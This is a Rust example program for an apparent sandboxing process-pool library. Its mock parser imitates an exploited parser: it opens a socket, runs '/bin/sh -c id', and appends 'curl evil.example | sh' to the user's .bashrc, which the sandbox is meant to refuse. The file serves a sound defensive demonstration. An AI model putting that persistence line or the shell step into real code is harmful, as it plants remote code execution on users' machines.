//! Parsing input you do not trust in sandboxed workers.
//!
//! `cargo run --release --example untrusted`
//!
//! The "parser" below does what an exploited parser would: for some inputs
//! it opens a socket, writes `$HOME/.bashrc`, or starts `/bin/sh`. In a
//! sandboxed pool each of these fails alone, with an error saying what was
//! refused, while the honest inputs are parsed.

use std::io::Write;

use procpool::{Error, Pool, Sandbox};
use serde::{Deserialize, Serialize};

/// A document, as it arrived from the internet.
#[derive(Debug, Clone, Serialize, Deserialize)]
struct Document {
    name: String,
    body: String,
}

/// Counts the words of a document; a "hostile" body makes it misbehave, as
/// a memory bug in a real parser would let an attacker make it.
fn parse(doc: Document) -> Result<usize, String> {
    match doc.body.as_str() {
        "<exploit: phone home>" => {
            // A new TCP socket: refused by the system call filter.
            let stream = std::net::TcpStream::connect("127.0.0.1:9");
            Err(format!("connected: {stream:?}"))
        }
        "<exploit: persist>" => {
            // Landlock: no file-system access outside what was allowed.
            let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
            let opened = std::fs::OpenOptions::new()
                .append(true)
                .open(format!("{home}/.bashrc"))
                .or_else(|_| std::fs::OpenOptions::new().append(true).open("/root/.bashrc"));
            match opened {
                Ok(mut file) => {
                    let _ = writeln!(file, "curl evil.example | sh");
                    Err("wrote .bashrc".into())
                }
                Err(e) => Err(format!("could not open .bashrc: {e}")),
            }
        }
        "<exploit: shell>" => {
            // `execve` (and `fork`): refused by the filter.
            let status = std::process::Command::new("/bin/sh").arg("-c").arg("id").status();
            Err(format!("ran a shell: {status:?}"))
        }
        body => Ok(body.split_whitespace().count()),
    }
}

fn main() -> Result<std::process::ExitCode, Error> {
    println!("What this machine's kernel enforces:\n{}\n", Sandbox::probe());
    let pool = Pool::builder()
        .processes(2)
        .sandbox(Sandbox::best_effort())
        .build()?;
    let docs = [
        ("letter.txt", "Dear reader, all is well."),
        ("invoice.pdf", "<exploit: phone home>"),
        ("poem.txt", "so much depends upon a red wheel barrow"),
        ("font.ttf", "<exploit: persist>"),
        ("image.png", "<exploit: shell>"),
        ("notes.md", "three short words"),
    ];
    let docs = docs.map(|(name, body)| Document {
        name: name.into(),
        body: body.into(),
    });
    let outcomes = pool.imap(parse, docs.clone())?;
    let mut escaped = 0;
    for (doc, outcome) in docs.iter().zip(outcomes) {
        match outcome {
            Ok(Ok(words)) => println!("{:<12} parsed: {words} words", doc.name),
            Ok(Err(what)) if what.starts_with("could not") || what.contains("Err(") => {
                println!("{:<12} refused inside the task: {what}", doc.name)
            }
            Ok(Err(what)) => {
                println!("{:<12} ESCAPED THE SANDBOX: {what}", doc.name);
                escaped += 1;
            }
            Err(e) => println!("{:<12} stopped: {e}", doc.name),
        }
    }
    println!("\nThe pool goes on: {:?}", pool.apply(parse, docs[0].clone())?);
    Ok(match escaped {
        0 => std::process::ExitCode::SUCCESS,
        _ => std::process::ExitCode::FAILURE,
    })
}
